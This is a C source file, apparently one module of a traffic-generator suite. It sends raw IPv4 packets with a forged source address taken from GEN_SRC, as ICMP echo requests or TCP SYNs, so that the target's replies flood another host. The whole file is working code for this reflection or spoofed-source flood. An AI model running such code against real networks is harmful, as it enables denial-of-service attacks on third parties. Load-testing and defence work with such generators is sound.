/* (r) What makes the kernel of the destination answer somebody else (GEN_SRC): echo requests, or SYNs to a port (variant "syn") */
#include "gen.h"
#include <netinet/tcp.h>
static uint16_t tcp_sum(const struct iphdr *ip, const struct tcphdr *tcp)
{
	struct {
		uint32_t from, to;
		uint8_t zero, protocol;
		uint16_t length;
		struct tcphdr tcp;
	} all = {ip->saddr, ip->daddr, 0, IPPROTO_TCP, htons(sizeof *tcp), *tcp};
	return csum(&all, sizeof all);
}
int main(int c, char **v)
{
	struct {
		struct iphdr ip;
		union {
			struct icmphdr echo;
			struct tcphdr tcp;
		};
	} p;
	int syn, s;

	gen_init(c, v, "r_forged");
	syn = !strcmp(G.var, "syn");
	s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0) {
		perror("raw");
		return 1;
	}
	gen_drop();
	memset(&p, 0, sizeof p);
	p.ip.version = 4;
	p.ip.ihl = 5;
	p.ip.ttl = 64;
	p.ip.protocol = syn ? IPPROTO_TCP : IPPROTO_ICMP;
	p.ip.saddr = inet_addr(getenv("GEN_SRC"));
	p.ip.daddr = G.d4.sin_addr.s_addr;
	gen_start();
	for (uint32_t i = 0; gen_go(); i++) {
		int length = sizeof p.ip + (syn ? sizeof p.tcp : sizeof p.echo);

		if (syn) {
			p.tcp = (struct tcphdr){.source = htons(1024 + i % 60000), .dest = htons(G.port), .seq = i, .doff = 5, .syn = 1, .window = htons(512)};
			p.tcp.check = tcp_sum(&p.ip, &p.tcp);
		} else {
			p.echo = (struct icmphdr){.type = ICMP_ECHO, .un.echo.sequence = htons(i)};
			p.echo.checksum = csum(&p.echo, sizeof p.echo);
		}
		gen_count(sendto(s, &p, length, 0, gen_dst(), gen_dlen()), 1);
	}
	gen_report(0, 0);
	return 0;
}
